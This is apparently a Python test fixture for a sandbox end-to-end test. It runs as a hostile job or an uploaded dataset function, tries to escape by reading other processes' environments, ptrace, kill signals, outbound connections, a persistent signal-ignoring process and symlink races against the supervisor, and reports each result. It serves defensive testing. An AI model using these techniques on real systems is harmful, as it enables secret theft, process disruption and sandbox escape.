"""Hostile code inside a job, for tests/e2e/test_sandbox.py: it tries to break out and writes
down what happened. Stdlib only (but for `load`, which builds a dataset).

Two ways in, both what an attacker with an ordinary key gets:

- as the job's program (an allowlisted `lm_eval_path`: `<python> attack.py [lm-eval args]`),
  with the plan (JSON) in the env var SANDBOX_TEST_PLAN;
- as the `custom_dataset` function of an uploaded task (`!function attack.load`, on a server
  with ALLOW_REMOTE_CODE), with the plan in the uploaded `plan.json` beside this file. lm-eval
  calls it when the upload is checked and again when a job runs the task.

Every attempt is recorded as {"ok": bool, ...}: ok means the operation itself went through
(a write landed, a signal was delivered, a file could be read, with what it held). The report
goes to `attack-report-<phase>.json` in the job's directory and in the owner's cache
(XDG_CACHE_HOME, the one place the upload check may write that outlives it), rewritten after
each attempt, and to stdout as one `ATTACK-REPORT {...}` line at the end.

Nothing here harms the machine if an attempt succeeds: files it creates carry the plan's
token in their names (the test removes them), existing files are opened for writing and
closed without a byte written, except the test's own copy of the task index.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import signal
import socket
import sys
import threading
import time
from pathlib import Path
from typing import Any

REPORT = "attack-report-{phase}.json"
HEARTBEAT = "heartbeat-{phase}"
SLEEPER = """
import os, signal, sys, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
path = sys.argv[2]
n = 0
while True:
    n += 1
    try:
        with open(path + ".tmp", "w") as f:
            f.write(f"{n} {time.time()}")
        os.replace(path + ".tmp", path)
    except OSError:
        pass
    time.sleep(0.1)
"""
SAMPLE_BYTES = 4096


def _error(exc: BaseException) -> str:
    if isinstance(exc, OSError) and exc.errno is not None:
        return f"{type(exc).__name__}: {errno.errorcode.get(exc.errno, exc.errno)}"
    return f"{type(exc).__name__}: {exc}"


class Attack:
    def __init__(self, plan: dict[str, Any], phase: str) -> None:
        self.plan = plan
        self.phase = phase
        self.token = plan["token"]
        self.cache = os.environ.get("XDG_CACHE_HOME")
        self.report: dict[str, Any] = {"phase": phase, "attempts": {}, "done": False}

    # ------------------------------------------------------------------ reporting

    def save(self) -> None:
        text = json.dumps(self.report, sort_keys=True)
        name = REPORT.format(phase=self.phase)
        for directory in (os.getcwd(), self.cache):
            if not directory:
                continue
            try:
                tmp = os.path.join(directory, f".{name}.tmp")
                with open(tmp, "w") as out:
                    out.write(text)
                os.replace(tmp, os.path.join(directory, name))
            except OSError:
                pass

    def record(self, name: str, outcome: dict[str, Any]) -> None:
        self.report["attempts"][name] = outcome
        self.save()

    # ------------------------------------------------------------------ attempts

    def write(self, name: str, op: str, path: str) -> None:
        try:
            if op == "create":
                fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
                os.write(fd, b"written from inside a job\n")
                os.close(fd)
            elif op == "open":  # write access, without writing a byte
                os.close(os.open(path, os.O_WRONLY))
            elif op == "mkdir":
                os.mkdir(path)
            elif op == "replace":  # the attack: a file of ours over the index's
                tmp = f"{path}.{self.token}"
                with open(tmp, "w") as out:
                    out.write('{"forged": true}')
                os.replace(tmp, path)
            elif op == "unlink":
                os.unlink(path)
            else:
                raise ValueError(op)
        except Exception as exc:
            self.record(name, {"ok": False, "op": op, "path": path, "error": _error(exc)})
        else:
            self.record(name, {"ok": True, "op": op, "path": path})

    def read(self, name: str, op: str, path: str) -> None:
        try:
            if op == "list":
                found: Any = sorted(os.listdir(path))[:200]
            else:
                with open(path, "rb") as f:
                    found = f.read(SAMPLE_BYTES).decode("latin-1")
        except Exception as exc:
            self.record(name, {"ok": False, "op": op, "path": path, "error": _error(exc)})
        else:
            self.record(name, {"ok": True, "op": op, "path": path, "got": found})

    def _in_namespace(self, pid: int) -> str | None:
        """The command line of `pid` when a process of the sandbox has this number."""
        try:
            return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            return None

    def kill(self, name: str, pid: int, group: bool = False) -> None:
        own = self._in_namespace(pid) if pid > 0 else None
        if own is not None:
            # A host pid that happens to number a process of ours: not the target.
            self.record(name, {"ok": False, "pid": pid, "error": f"own process: {own[:200]}"})
            return
        try:
            if group:
                os.killpg(pid, signal.SIGKILL)
            else:
                os.kill(pid, signal.SIGKILL)
        except Exception as exc:
            self.record(name, {"ok": False, "pid": pid, "error": _error(exc)})
        else:
            self.record(name, {"ok": True, "pid": pid})

    def kill_all(self) -> None:
        # kill(-1): every process this one may signal but itself and its namespace's init.
        try:
            os.kill(-1, signal.SIGKILL)
        except Exception as exc:
            self.record("kill -1", {"ok": False, "error": _error(exc)})
        else:
            # Delivered, to what? Only processes of the sandbox are there to be signalled;
            # the test judges by the server and the other job staying up.
            self.record("kill -1", {"ok": True})

    def ptrace(self, name: str, pid: int) -> None:
        if self._in_namespace(pid) is not None:
            self.record(name, {"ok": False, "pid": pid, "error": "own process"})
            return
        libc = ctypes.CDLL(None, use_errno=True)
        ptrace_attach = 16
        result = libc.ptrace(ptrace_attach, pid, None, None)
        if result == 0:
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
            self.record(name, {"ok": True, "pid": pid})
        else:
            code = ctypes.get_errno()
            self.record(name, {"ok": False, "pid": pid, "error": errno.errorcode.get(code)})

    def processes(self) -> None:
        """Every process this one can see, with its command line, and whose environment it
        can read: the server must be none of them."""
        seen = {}
        environs = {}
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            seen[entry] = self._in_namespace(int(entry))
            with contextlib.suppress(OSError):
                environs[entry] = Path(f"/proc/{entry}/environ").read_bytes()[:SAMPLE_BYTES]
        self.record(
            "list /proc",
            {
                "ok": True,
                "processes": seen,
                "environs": {k: v.decode("latin-1") for k, v in environs.items()},
            },
        )

    def identity(self) -> None:
        status = Path("/proc/self/status").read_text()
        fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
        self.report["identity"] = {
            "uid": os.getuid(),
            "gid": os.getgid(),
            "euid": os.geteuid(),
            "pid": os.getpid(),
            "sid": os.getsid(0),
            "hostname": socket.gethostname(),
            "cwd": os.getcwd(),
            "CapEff": fields.get("CapEff", "").strip(),
            "CapPrm": fields.get("CapPrm", "").strip(),
            "NoNewPrivs": fields.get("NoNewPrivs", "").strip(),
            "environ": dict(os.environ),
        }
        self.save()

    def connect(self, host: str, port: int) -> None:
        try:
            with socket.create_connection((host, port), timeout=5) as conn:
                conn.sendall(f"{self.token} {self.phase}\n".encode())
        except Exception as exc:
            self.record("connect", {"ok": False, "error": _error(exc)})
        else:
            self.record("connect", {"ok": True})

    def sleeper(self) -> None:
        """Double fork, new session: a process meant to outlive the job, beating a heartbeat
        into the owner's cache (the job directory of the check does not outlive it)."""
        beat = os.path.join(self.cache or os.getcwd(), HEARTBEAT.format(phase=self.phase))
        marker = f"sandbox-sleeper-{self.token}-{self.phase}"
        first = os.fork()
        if first == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    os.closerange(3, 1024)
                    devnull = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(devnull, fd)
                    os.execv(sys.executable, [sys.executable, "-c", SLEEPER, marker, beat])
            finally:
                os._exit(0)
        os.waitpid(first, 0)
        deadline = time.monotonic() + 10
        while not os.path.exists(beat) and time.monotonic() < deadline:
            time.sleep(0.05)
        self.record("sleeper", {"ok": os.path.exists(beat), "heartbeat": beat, "marker": marker})

    # ------------------------------------------------------------------ the run

    def run(self) -> dict[str, Any]:
        plan = self.plan
        self.identity()
        for name, (op, path) in plan.get("writes", {}).items():
            self.write(name, op, path)
        for name, (op, path) in plan.get("reads", {}).items():
            self.read(name, op, path)
        for name, pid in plan.get("environ", {}).items():
            self.read(f"environ {name}", "read", f"/proc/{pid}/environ")
            self.read(f"cmdline {name}", "read", f"/proc/{pid}/cmdline")
        if plan.get("processes", True):
            self.processes()
        for name, pid in plan.get("ptrace", {}).items():
            self.ptrace(f"ptrace {name}", pid)
        for name, pid in plan.get("kill", {}).items():
            self.kill(f"kill {name}", pid)
        for name, pgid in plan.get("killpg", {}).items():
            self.kill(f"killpg {name}", pgid, group=True)
        if plan.get("kill_all"):
            self.kill_all()
        if "connect" in plan:
            host, port = plan["connect"]
            self.connect(host, port)
        if plan.get("sleeper"):
            self.sleeper()
        self.report["done"] = True
        self.save()
        return self.report


# ---------------------------------------------------------------------- the confused deputy


def deputy(plan: dict[str, Any], attack: Attack) -> None:
    """Files of the job directory that the supervisor (outside the sandbox) writes and the
    server reads back: make them point at what the job cannot see itself."""
    spec = plan["deputy"]
    work = Path.cwd()
    outcomes: dict[str, Any] = {}
    # The supervisor writes its records through `<name>.tmp<its pid>` then renames; its pid
    # is about the sandbox's (child.pid, which it writes here) minus one.
    bwrap_pid = int((work / "child.pid").read_text())
    for offset in range(1, 65):
        for name in ("exit.json", "stdout.log.cut", "stderr.log.cut"):
            link = work / f"{name}.tmp{bwrap_pid - offset}"
            try:
                link.symlink_to(spec["canary_write"])
            except OSError as exc:
                outcomes.setdefault("tmp links", _error(exc))
    # Each log rotation renames stdout.log and opens the name again: race a link into it.
    stop = threading.Event()

    def race() -> None:
        while not stop.is_set():
            try:
                os.symlink(spec["canary_append"], work / "stdout.log")
            except OSError:
                continue
            stop.set()

    racer = threading.Thread(target=race, daemon=True)
    racer.start()
    chunk = ("PWNED-" + attack.token + " " + "x" * 200 + "\n") * 200
    deadline = time.monotonic() + spec.get("race_s", 5)
    rotations = 0
    while not stop.is_set() and time.monotonic() < deadline:
        sys.stdout.write(chunk)
        sys.stdout.flush()
        rotations += 1
    stop.set()
    racer.join()
    outcomes["rotations written"] = rotations
    time.sleep(1)  # the supervisor drains what was written (and rotates) meanwhile
    # Then what the server reads back: the logs (and their rotated segments), results.
    for name, target in spec["links"].items():
        link = work / name
        try:
            link.parent.mkdir(parents=True, exist_ok=True)
            if link.is_symlink() or link.exists():
                link.unlink()
            link.symlink_to(target)
        except OSError as exc:
            outcomes[name] = _error(exc)
        else:
            outcomes[name] = "linked"
    attack.record("deputy", {"ok": True, "outcomes": outcomes})
    # Wait for the test to read what the server serves of this job.
    release = work / "release"
    deadline = time.monotonic() + 120
    while not release.exists() and time.monotonic() < deadline:
        time.sleep(0.05)


# ---------------------------------------------------------------------- entry points


def main() -> int:
    plan = json.loads(os.environ["SANDBOX_TEST_PLAN"])
    attack = Attack(plan, plan.get("phase", "script"))
    report = attack.run()
    print("ATTACK-REPORT " + json.dumps(report, sort_keys=True), flush=True)
    if "deputy" in plan:
        deputy(plan, attack)
    return 0


def load(**kwargs: Any) -> Any:
    """custom_dataset: the attack, then a few multiple-choice documents."""
    import datasets

    here = Path(__file__).resolve().parent
    plan = json.loads((here / "plan.json").read_text())
    phase = "check" if os.path.basename(os.getcwd()).endswith(".check") else "job"
    attack = Attack(plan, phase)
    if not os.path.exists(os.path.join(attack.cache or "", REPORT.format(phase=phase))):
        # The upload's own directory: the server's copy, which no job may change.
        plan.setdefault("writes", {})["own upload"] = ["create", str(here / f"{plan['token']}")]
        plan["writes"]["own upload yaml"] = ["open", str(next(here.glob("*.yaml")))]
        attack.run()
        print("ATTACK-REPORT " + json.dumps(attack.report, sort_keys=True), flush=True)
    docs = [
        {"question": f"Question {i}?", "choices": ["yes", "no"], "answer": i % 2} for i in range(4)
    ]
    return datasets.DatasetDict({"test": datasets.Dataset.from_list(docs)})


if __name__ == "__main__":
    sys.exit(main())
